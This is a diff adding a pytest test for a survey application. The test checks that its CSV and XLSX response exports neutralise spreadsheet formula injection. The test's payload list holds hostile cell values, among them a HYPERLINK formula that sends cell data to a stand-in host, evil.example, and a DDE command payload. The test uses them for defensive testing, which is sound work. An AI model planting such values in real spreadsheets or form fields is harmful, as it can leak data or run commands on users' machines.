@@ -2,18 +2,22 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from pathlib import Path
 
 import pytest
+from openpyxl import load_workbook
 from sqlmodel import Session
 from starlette.testclient import TestClient
 
 from survey_app.cli.main import main
+from survey_app.services.exports.tables import neutralise
 from survey_app.settings import Settings
 from tests.conftest import form_token, survey_path
-from tests.factories import full_answers, make_campaign
+from tests.factories import csrf_of, full_answers, logged_in_lead, make_campaign
 
 REQUIRED = {"id", "location", "channel", "started_at", "submitted_at", "client_id", "ip_hash", "answers"}
 ISO_UTC = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
@@ -54,3 +58,39 @@ def test_export_unknown_campaign_is_a_clear_error(
     monkeypatch.setenv("MINGCHA_VAR_DIR", str(settings.var_dir))
     assert main(["export", "--campaign", "NOPE", "--out", str(tmp_path)]) == 2
     assert "no campaign with code 'NOPE'" in capsys.readouterr().err
+
+
+EVIL = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+]
+
+
+def test_1_exports_cannot_run_formulas(client: TestClient, session: Session) -> None:
+    campaign, locations = logged_in_lead(client, session)
+    path = survey_path(locations[0])
+    for text in EVIL:
+        data = {
+            "_form": form_token(client.get(path).text),
+            "_step": "submit",
+            **full_answers(),
+            "a.comment": text,
+        }
+        assert client.post(path, data=data).status_code == 303
+    token = csrf_of(client)
+    body = client.post(f"/c/{campaign.code}/export/responses.csv", data={"_csrf": token}).content.decode(
+        "utf-8-sig"
+    )
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert "'=cmd|' /C calc'!A0" in cells
+    book = load_workbook(
+        io.BytesIO(client.post(f"/c/{campaign.code}/export/responses.xlsx", data={"_csrf": token}).content)
+    )
+    values = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
+    assert all(c.data_type == "s" and not c.value.startswith(("=", "+", "-", "@")) for c in values)
+    assert neutralise("=一楼") == "'=一楼" and neutralise(-3) == -3 and neutralise("正常") == "正常"
